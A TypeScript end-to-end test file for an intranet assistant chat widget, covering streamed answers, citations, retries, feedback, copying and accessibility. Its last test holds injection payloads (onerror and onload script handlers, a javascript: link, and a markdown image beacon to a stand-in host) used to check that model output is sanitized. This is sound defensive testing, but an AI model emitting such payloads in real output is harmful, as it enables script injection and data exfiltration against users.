import { expect, test } from "bun:test";
import { HOTELS, OWNERS } from "./helpers/citations.ts";
import { openPanel, useScenes } from "./helpers/scene.ts";

const scene = useScenes();

test("an answer streams in steps, with the caret while it is written and its sources when it is done", async () => {
  const here = await scene();
  const { page, parley, widget } = here;
  await openPanel(here);
  await widget.ask("What may I spend on a hotel in Zurich?");
  const question = await parley.question(0);
  expect(question.page).toEqual({
    url: `http://intranet.test:${new URL(here.pages.address).port}/travel?from=menu`,
    title: "Travelling for Acme",
  });

  question.cite([HOTELS, OWNERS]);
  question.say("In Zurich the limit is **190 ");
  await page.locator(".assistant strong", { hasText: "190" }).waitFor();
  expect(await page.locator(".assistant .caret").count()).toBe(1);
  expect(await page.locator(".src").count()).toBe(0);

  question.say("euros** [1]. Above it, your owner approves [2].");
  question.finish({ followUps: ["And breakfast?"] });
  await page.locator(".src").first().waitFor();
  expect(await widget.answers.textContent()).toContain("190 euros");
  expect(await page.locator(".caret").count()).toBe(0);
  expect(await page.locator(".cite").allTextContents()).toEqual(["1", "2"]);
  expect(await page.locator(".src").allTextContents()).toEqual([
    "1Travel policy Hotels · p. 6",
    "2Cost centres Owners",
  ]);

  await page.getByRole("button", { name: "And breakfast?" }).click();
  expect((await parley.question(1)).text).toBe("And breakfast?");
});

test("text arrives by the frame, not by the token", async () => {
  const here = await scene({ motion: true });
  await openPanel(here);
  await here.widget.ask("Question");
  const question = await here.parley.question(0);
  const lengths = here.page.evaluate(
    () =>
      new Promise<number[]>((resolve) => {
        const seen: number[] = [];
        const look = () => {
          const root = document.querySelector("parley-widget")?.shadowRoot;
          const length = root?.querySelector(".assistant .answer")?.textContent?.length ?? 0;
          if (length && length !== seen.at(-1)) seen.push(length);
          if (length >= 400) resolve(seen);
          else requestAnimationFrame(look);
        };
        look();
      }),
  );
  question.say("word ".repeat(80));
  question.finish();

  expect((await lengths).length).toBeGreaterThan(5);
});

test("a citation opens its passage in place, with document, page and heading, and Escape closes only that", async () => {
  const here = await scene();
  const { page, parley, widget } = here;
  await openPanel(here);
  await widget.ask("Hotel?");
  const question = await parley.question(0);
  question.cite([HOTELS]);
  question.say("The limit is 190 euros [1], not 200 [7].");
  question.finish();

  await page.getByRole("button", { name: "Source 1" }).click();
  const passage = page.locator(".answer .passage");
  expect(await passage.textContent()).toContain("Travel policy Travel › Hotels · p. 6");
  expect(await passage.textContent()).toContain("Breakfast is part of the limit");
  expect(await widget.answers.textContent()).toContain("[7]");

  await page.keyboard.press("Escape");
  expect(await passage.count()).toBe(0);
  expect(await widget.panel.isVisible()).toBe(true);
});

test("at most three sources are listed, then the rest on request", async () => {
  const here = await scene();
  await openPanel(here);
  await here.widget.ask("Everything?");
  const question = await here.parley.question(0);
  question.cite([1, 2, 3, 4, 5].map((n) => ({ ...HOTELS, n, title: `Document ${n}` })));
  question.say("All [1][2][3][4][5].");
  question.finish();

  await here.page.locator(".src").first().waitFor();
  expect(await here.page.locator(".src").count()).toBe(3);
  await here.page.getByRole("button", { name: "2 more" }).click();
  expect(await here.page.locator(".src").count()).toBe(5);
});

test("when it found nothing, the nearest passages are there to open", async () => {
  const here = await scene();
  await openPanel(here);
  await here.widget.ask("Who won the cup?");
  const question = await here.parley.question(0);
  question.say("I found nothing about that in the documents.");
  question.finish({ nearest: [HOTELS] });

  const group = here.page.getByRole("group", { name: "Closest passages" });
  await group.getByRole("button", { name: /Travel policy/ }).click();
  expect(await group.locator(".passage").textContent()).toContain("190 euros");
});

test("an answer that breaks off says so and offers to try again", async () => {
  const here = await scene();
  await openPanel(here);
  await here.widget.ask("Long?");
  const question = await here.parley.question(0);
  question.say("This becomes long");
  question.finish({ status: "interrupted" });

  await here.page.locator(".bad", { hasText: "This answer was interrupted." }).waitFor();
  await here.page.getByRole("button", { name: "Try again" }).first().click();
  expect((await here.parley.question(1)).text).toBe("Long?");
});

test("a failed answer says why and can be tried again", async () => {
  const here = await scene();
  await openPanel(here);
  await here.widget.ask("Question");
  const error = { code: "PROVIDER_UNAVAILABLE", message: "The model can't be reached." };
  (await here.parley.question(0)).finish({ status: "failed", error });

  await here.page.getByText("The model can't be reached.").waitFor();
  await here.page.getByRole("button", { name: "Try again" }).click();
  expect((await here.parley.question(1)).text).toBe("Question");
});

test("a thumb reaches the server, and copying works on a page without the clipboard API", async () => {
  const here = await scene();
  const { page, parley } = here;
  await openPanel(here);
  await here.widget.ask("Question");
  const question = await parley.question(0);
  question.say("The answer.");
  question.finish();
  await page.locator(".assistant .acts").waitFor({ state: "attached" });
  expect(await page.evaluate(() => [isSecureContext, "clipboard" in navigator])).toEqual([false, false]);

  await page.getByRole("button", { name: "Helpful", exact: true }).click({ force: true });
  await page.waitForFunction(() => window.observed.events.includes("feedback"));
  expect(parley.feedback).toMatchObject([{ rating: "helpful" }]);

  await page.getByRole("button", { name: "Copy" }).click({ force: true });
  await page.getByText("Copied").waitFor();
  await here.widget.field.fill("");
  await here.widget.field.press("Control+v");
  expect(await here.widget.field.inputValue()).toBe("The answer.");
});

test("a new conversation starts empty and leaves the old one behind", async () => {
  const here = await scene();
  await openPanel(here);
  await here.widget.ask("First");
  (await here.parley.question(0)).finish();
  await here.page.getByRole("button", { name: "More" }).click();
  await here.page.getByRole("menuitem", { name: "New conversation" }).click();

  await here.page.getByText("What would you like to know?").waitFor();
  expect(await here.widget.visitorMessages.count()).toBe(0);
});

test("the reader who scrolled up is left alone, and told that there is more", async () => {
  const here = await scene();
  await openPanel(here);
  await here.widget.ask("Long?");
  const question = await here.parley.question(0);
  question.say("A paragraph of some length.\n\n".repeat(40));
  await here.page.waitForFunction(() => {
    const body = document.querySelector("parley-widget")?.shadowRoot?.querySelector(".body");
    return body && body.scrollTop > 200;
  });
  await here.page.locator(".panel .body").evaluate((body) => {
    body.scrollTop = 0;
  });
  await here.page.evaluate(
    () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
  );
  question.say("More of it.\n\nAnd more.");

  await here.page.getByRole("button", { name: "New answer" }).click();
  expect(
    await here.page
      .locator(".panel .body")
      .evaluate((body) => body.scrollHeight - body.scrollTop - body.clientHeight),
  ).toBeLessThan(4);
});

test("finished sentences are announced, and no half ones", async () => {
  const here = await scene();
  await openPanel(here);
  await here.widget.ask("Question");
  const question = await here.parley.question(0);
  question.say("The limit is 190 euros [1]. Above");
  const announcer = here.page.locator("[data-announcer]");
  await here.page.waitForFunction(() => {
    const root = document.querySelector("parley-widget")?.shadowRoot;
    return root?.querySelector("[data-announcer]")?.textContent;
  });
  expect(await announcer.textContent()).toBe("The limit is 190 euros.");
});

test("nothing a model writes becomes an element, a request or a script, at no moment", async () => {
  const here = await scene();
  await openPanel(here);
  await here.widget.ask("Attack?");
  const question = await here.parley.question(0);
  question.cite([HOTELS]);
  const attack =
    '<img src=x onerror="window.pwned=1"><svg onload="window.pwned=1"> ![a](https://canary.test/?d=S) <https://canary.test/S> ' +
    "[x](javascript:window.pwned=1) [3](https://evil.test) [99] ![r][1]\n\n[1]: https://canary.test/r";
  for (const character of attack) question.say(character);
  question.finish();
  await here.page.locator(".assistant .acts").waitFor({ state: "attached" });

  expect(await here.page.evaluate(() => window.pwned)).toBeUndefined();
  expect(here.strangers).toEqual([]);
  expect(await here.page.locator(".answer :is(img, svg, a, script)").count()).toBe(0);
  const text = await here.widget.answers.textContent();
  expect(text).toContain('<img src=x onerror="window.pwned=1">');
  expect(text).toContain("[image blocked]");
  expect(text).toContain("x (javascript:window.pwned=1)");
  expect(text).toContain("3 (https://evil.test)");
  expect(text).toContain("[99]");
});
